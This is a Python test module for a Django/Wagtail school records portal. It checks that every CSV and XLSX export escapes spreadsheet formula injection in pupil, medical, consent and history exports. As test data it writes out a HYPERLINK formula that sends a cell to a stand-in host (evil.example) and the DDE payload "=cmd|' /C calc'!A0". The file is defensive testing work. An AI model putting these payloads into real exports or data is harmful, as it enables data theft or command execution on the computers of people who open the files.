"""CSV formula injection (issue 10, item 10): one exporter for every CSV and XLSX.

- every registered admin listing with ``list_export`` exports CSV and XLSX while every
  text column of the project's models starts with ``=``: no cell comes out as a
  formula, and each listing shows at least one escaped cell;
- each character that starts a formula (``= + - @``, tab, CR) in a pupil's name, in
  the exports of pupils, medical details, characteristics and consents;
- Wagtail's own exports (reports) write through the exporter too;
- no module but ``portal/exports.py`` writes CSV or XLSX.
"""

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.apps import apps
from django.conf import settings
from django.db import models
from django.db.models.functions import Concat, Length
from django.urls import get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets
from wagtail.admin.viewsets.base import ViewSet
from wagtail.admin.viewsets.model import ModelViewSet
from wagtail.log_actions import log

from portal.exports import BOM, FORMULA_STARTS, SpreadsheetExport, escape
from records.models import Consent, Pupil, PupilCharacteristic, PupilHealth

pytestmark = pytest.mark.django_db

ROOT = Path(settings.BASE_DIR)


def project_apps():
    return [config for config in apps.get_app_configs()
            if "site-packages" not in Path(config.path).parts
            and Path(config.path).resolve().is_relative_to(ROOT.resolve())]


def exported_viewsets():
    assert get_resolver().url_patterns  # loading the admin's URLconf registers the viewsets
    ours = {config.name for config in project_apps()}
    return [viewset for viewset in viewsets.viewsets
            if isinstance(viewset, ModelViewSet)
            and viewset.list_export not in (None, ViewSet.UNDEFINED, [], ())
            and type(viewset).__module__.split(".")[0] in ours]


def csv_cells(response):
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith(BOM), "CSV without the byte order mark"
    assert response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(content[1:]), delimiter=";")
            for cell in row]


def xlsx_cells(response):
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [cell for row in workbook.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells), "a cell is a formula"
    return [cell.value for cell in cells if isinstance(cell.value, str)]


def live_formulas(cells):
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS)]


def escaped(cells):
    return [cell for cell in cells if cell[:1] == "'" and cell[1:2] and cell[1] in "=+-@\t\r"]


def prefix_every_text_column(prefix="="):
    """Every text a user types (the text columns without choices, of every row of the
    project's models, logins aside) starts with ``prefix``, within the column's length."""
    for config in project_apps():
        for model in config.get_models():
            if model is apps.get_model(settings.AUTH_USER_MODEL):
                continue
            for field in model._meta.concrete_fields:
                if not isinstance(field, (models.CharField, models.TextField)) \
                        or field.primary_key or field.choices or (field.max_length or 9) < 3:
                    continue
                # The base manager: test data, written past the closed-period guard.
                rows = model._base_manager.exclude(**{field.attname: ""})
                if field.max_length:
                    # Only values with room for the prefix: cutting one short could make
                    # it equal another (rooms' short names are unique).
                    rows = rows.annotate(_length=Length(field.attname)).filter(
                        _length__lt=field.max_length)
                rows.update(**{field.attname: Concat(
                    models.Value(prefix), models.F(field.attname), output_field=field)})


def test_every_admin_export_escapes_formulas(client_for):
    client = client_for("admin")
    prefix_every_text_column()
    exported = exported_viewsets()
    assert len(exported) >= 15
    failures, with_escapes = [], set()
    for viewset in exported:
        url = reverse(viewset.get_url_name("index"))
        for export, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            response = client.get(url, {"export": export})
            assert response.status_code == 200, (url, export)
            cells = cells_of(response)
            if live_formulas(cells):
                failures.append(f"{url}?export={export}: {live_formulas(cells)[:3]}")
            if escaped(cells):
                with_escapes.add((url, export))
    assert not failures, "\n".join(failures)
    # Most listings export some text a user typed (a name, a school); a listing of
    # numbers, dates and choices only (load limits) has nothing to escape.
    assert len(with_escapes) >= 2 * len(exported) - 6, sorted(with_escapes)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_name_that_starts_a_formula_in_the_report_s_exports(client_for, start):
    """The exports of the report: pupils, medical details, characteristics, consents."""
    pupil = (Pupil.objects.filter(health__isnull=False, characteristic__isnull=False)
             .select_related("person").first())
    person = pupil.person
    person.surname = f'{start}HYPERLINK("http://evil.example/?"&A2;"Иванова")'
    person.save()
    assert Consent.objects.filter(person=person).exists()
    client = client_for("admin")
    for model in (Pupil, PupilHealth, PupilCharacteristic, Consent):
        url = reverse(f"records_{model._meta.model_name}:index")
        for export, cells_of in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            cells = cells_of(client.get(url, {"export": export}))
            assert not live_formulas(cells), (model, export)
            assert any(cell.startswith("'" + start + "HYPERLINK") for cell in cells), \
                (model, export)


def test_the_escape_rule():
    assert [escape(v) for v in ("=1+1", "+7 914", "-2", "@SUM(A1)", "\tx", "\rx", "＝1")] \
        == ["'=1+1", "'+7 914", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "'＝1"]
    assert [escape(v) for v in ("Иванова", "", "5А", -2, None)] == ["Иванова", "", "5А", -2, None]


def test_wagtail_s_own_reports_write_through_the_exporter(client_for):
    """Every view of the admin with an export (ours and Wagtail's reports and form
    submissions) writes CSV and XLSX with portal.exports."""
    views = {getattr(pattern.callback, "view_class", None)
             for pattern in walk(get_resolver())}
    exporting = [view for view in views
                 if isinstance(view, type) and issubclass(view, SpreadsheetExportMixin)]
    assert len(exporting) > 10
    for view in exporting:
        for name in ("write_csv_response", "write_xlsx_response"):
            assert getattr(view, name) is getattr(SpreadsheetExport, name), (view, name)
    # The site history, exported by a superuser, with a label that starts a formula.
    pupil = Pupil.objects.select_related("person").first()
    pupil.person.surname = "=cmd|' /C calc'!A0"
    pupil.person.save()
    log(pupil, "wagtail.edit", user=None)
    response = client_for("admin").get(reverse("wagtailadmin_reports:site_history"),
                                       {"export": "csv"})
    cells = csv_cells(response)
    assert not live_formulas(cells) and escaped(cells)


def walk(resolver):
    for pattern in resolver.url_patterns:
        if hasattr(pattern, "url_patterns"):
            yield from walk(pattern)
        else:
            yield pattern


WRITES_SPREADSHEETS = re.compile(
    r"csv\.writer|DictWriter|Workbook\(|tablib|\.export\(|text/csv|spreadsheetml")


def test_no_module_but_the_exporter_writes_csv_or_xlsx():
    offenders = []
    for config in project_apps():
        for path in Path(config.path).rglob("*.py"):
            if "migrations" in path.parts or config.name == "portal" and path.name in (
                    "exports.py",
                    # The upload checks and the documents' settings name the types of
                    # files people upload; nothing there writes one.
                    "uploads.py", "base.py"):
                continue
            for number, line in enumerate(path.read_text().splitlines(), start=1):
                if WRITES_SPREADSHEETS.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert not offenders, "write CSV/XLSX with portal.exports:\n" + "\n".join(offenders)
